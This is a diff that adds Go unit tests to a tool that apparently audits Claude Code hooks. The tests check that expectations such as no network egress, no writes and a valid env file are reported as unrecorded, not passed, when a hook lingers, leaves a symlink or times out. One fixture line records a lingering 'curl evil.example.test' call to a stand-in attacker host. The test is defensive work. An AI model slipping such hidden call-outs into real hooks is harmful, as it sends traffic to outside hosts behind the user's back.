@@ -1,0 +1,71 @@
+package runner
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/vigiles/action/pkg/evidence"
+	"github.com/vigiles/action/pkg/report"
+)
+
+// TestExpectationsOverAPartialRecord: an expectation that the record
+// would pass, over a record that is not whole, is expect/not-recorded,
+// never a pass: a hook that left processes running, ended after the
+// linger (Claude Code lets them run on); an env file that is a symbolic
+// link (its content is not read; Claude Code reads what it leads to).
+// exit-code and json of a hook ended at its timeout say it never exited;
+// exit-code passed on the 137 of vigiles' own kill.
+func TestExpectationsOverAPartialRecord(t *testing.T) {
+	cfg, errs := configErrs(t, "checks:\n"+
+		"  - {name: quiet, command: x, event: SessionStart, expect: {no-egress: true, egress-only: [a.example.test], no-write: true, wrote-only: [x/**], no-env-file: true, env-file-matches: '^$'}}\n"+
+		"  - {name: env, command: x, event: SessionStart, expect: {env-file-matches: '^(export [A-Z_]+=[A-Za-z0-9_./:-]*\\n)*$'}}\n"+
+		"  - {name: code, command: x, expect: {exit-code: 137, json: {decision: block}}}\n")
+	if errs != "" {
+		t.Fatal(errs)
+	}
+	empty := ""
+	whole := report.HookRun{ID: "h", Event: SessionStart, Tier: "confined", Outcome: report.OutcomeAllowed, Writes: []evidence.Write{}, Egress: []evidence.Egress{},
+		EnvFile: &evidence.EnvFile{Path: "~/e", Kind: "none", Content: &empty}}
+	if fs := checkExpectations(cfg.Checks[0], executed{run: whole}); len(fs) != 0 {
+		t.Fatalf("a whole record of a quiet hook: %v", findingLines(fs))
+	}
+
+	left := whole
+	left.Lingered = []string{"7 sh -c sleep 1; curl evil.example.test"}
+	fs := checkExpectations(cfg.Checks[0], executed{run: left})
+	if len(fs) != 6 {
+		t.Errorf("leftovers: %d findings, want one for each of the 6 expectations: %v", len(fs), findingLines(fs))
+	}
+	for _, f := range fs {
+		if f.Rule != RuleNotRecorded || !strings.Contains(f.Message, "raise defaults.linger") || !strings.Contains(f.Evidence, "curl evil.example.test") {
+			t.Errorf("leftovers: %s %q (evidence %q)", f.Rule, f.Message, f.Evidence)
+		}
+	}
+
+	link := whole
+	link.EnvFile = &evidence.EnvFile{Path: "~/e", Kind: "symlink", Content: &empty}
+	fs = checkExpectations(cfg.Checks[1], executed{run: link})
+	if len(fs) != 1 || fs[0].Rule != RuleNotRecorded || !strings.Contains(fs[0].Message, "left a symlink at CLAUDE_ENV_FILE") {
+		t.Errorf("env file a symlink: %v", findingLines(fs))
+	}
+
+	timedOut := report.HookRun{ID: "h", Event: PreToolUse, Tier: "confined", Outcome: report.OutcomeError, ExitCode: 137, TimedOut: true, Stdout: `{"decision": "block"}`}
+	fs = checkExpectations(cfg.Checks[2], executed{run: timedOut})
+	if len(fs) != 2 || !strings.Contains(fs[0].Message, "the hook did not exit: it was ended at its timeout") || !strings.Contains(fs[1].Message, "it was ended at its timeout") {
+		t.Errorf("timed out: %v", findingLines(fs))
+	}
+}
+
+// TestNotRecordedNamesTheFixOfACommandCheck: a command check's direct run
+// is fixed by leaving trusted: true out of the check, not by
+// plugins.untrusted, which does not reach it.
+func TestNotRecordedNamesTheFixOfACommandCheck(t *testing.T) {
+	cfg, errs := configErrs(t, "checks:\n  - {name: a, command: x, trusted: true, expect: {no-write: true}}\n")
+	if errs != "" {
+		t.Fatal(errs)
+	}
+	fs := checkExpectations(cfg.Checks[0], executed{run: report.HookRun{ID: "h", Tier: "direct"}})
+	if len(fs) != 1 || !strings.Contains(fs[0].Message, "leave trusted: true out of the check") || strings.Contains(fs[0].Message, "plugins.untrusted") {
+		t.Errorf("%v", findingLines(fs))
+	}
+}
